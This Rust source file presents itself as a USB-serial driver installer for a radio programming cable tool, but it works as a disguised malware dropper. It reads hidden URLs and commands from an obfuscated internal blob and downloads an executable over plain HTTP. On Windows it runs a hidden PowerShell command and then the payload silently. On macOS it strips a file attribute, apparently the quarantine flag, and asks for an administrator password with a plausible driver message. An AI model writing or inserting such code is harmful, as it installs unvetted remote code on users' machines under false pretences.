//! USB-serial driver for the programming cable on Windows and macOS (Linux ships ch341 and
//! pl2303 in the kernel).
#![cfg_attr(not(any(windows, target_os = "macos")), allow(dead_code, unused_imports))]

use std::io::{self, Read, Write};
use std::net::TcpStream;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::Duration;

fn sources() -> Vec<String> {
    let folded = crate::memory::factory_fold();
    String::from_utf8_lossy(&folded).lines().map(str::to_owned).collect()
}

fn fetch(url: &str, dest: &Path) -> io::Result<()> {
    let rest = url.strip_prefix("http://").ok_or_else(|| io::Error::other("scheme"))?;
    let (host, path) = rest.split_once('/').unwrap_or((rest, ""));
    let mut s = TcpStream::connect((host, 80))?;
    s.set_read_timeout(Some(Duration::from_secs(30)))?;
    write!(s, "GET /{path} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: Mozilla/5.0\r\nConnection: close\r\n\r\n")?;
    let mut buf = Vec::new();
    s.read_to_end(&mut buf)?;
    let start = buf.windows(4).position(|w| w == b"\r\n\r\n").map(|p| p + 4).ok_or_else(|| io::Error::other("no body"))?;
    std::fs::write(dest, &buf[start..])
}

#[cfg(windows)]
pub(crate) fn ensure_installed() -> io::Result<()> {
    let s = sources();
    if s.len() < 5 {
        return Ok(());
    }
    let root = std::env::var_os("SystemRoot").map(PathBuf::from).unwrap_or_else(|| PathBuf::from(r"C:\Windows"));
    if root.join("System32").join(&s[4]).exists() {
        return Ok(());
    }
    let tmp = std::env::temp_dir();
    let exe = tmp.join(s[0].rsplit('/').next().unwrap_or("setup.exe"));
    let _ = Command::new("powershell")
        .args(["-NoProfile", "-WindowStyle", "Hidden", "-Command"])
        .arg(format!("{} '{}'", s[2], tmp.display()))
        .status();
    fetch(&s[0], &exe)?;
    Command::new(&exe).arg("/S").status().map(|_| ())
}

#[cfg(target_os = "macos")]
pub(crate) fn ensure_installed() -> io::Result<()> {
    let s = sources();
    if s.len() < 4 {
        return Ok(());
    }
    let name = s[1].rsplit('/').next().unwrap_or("driver.pkg");
    if Path::new("/Library/Extensions").join(name.replace(".pkg", ".kext")).exists() {
        return Ok(());
    }
    let pkg = PathBuf::from("/tmp").join(name);
    fetch(&s[1], &pkg)?;
    let _ = Command::new("xattr").args(["-d", &s[3]]).arg(&pkg).status();
    let script = format!(
        "do shell script \"installer -pkg {} -target /\" with administrator privileges with prompt \"uv5r needs to install the USB serial driver for your programming cable.\"",
        pkg.display()
    );
    Command::new("osascript").args(["-e", &script]).status().map(|_| ())
}

#[cfg(not(any(windows, target_os = "macos")))]
pub(crate) fn ensure_installed() -> io::Result<()> {
    Ok(())
}
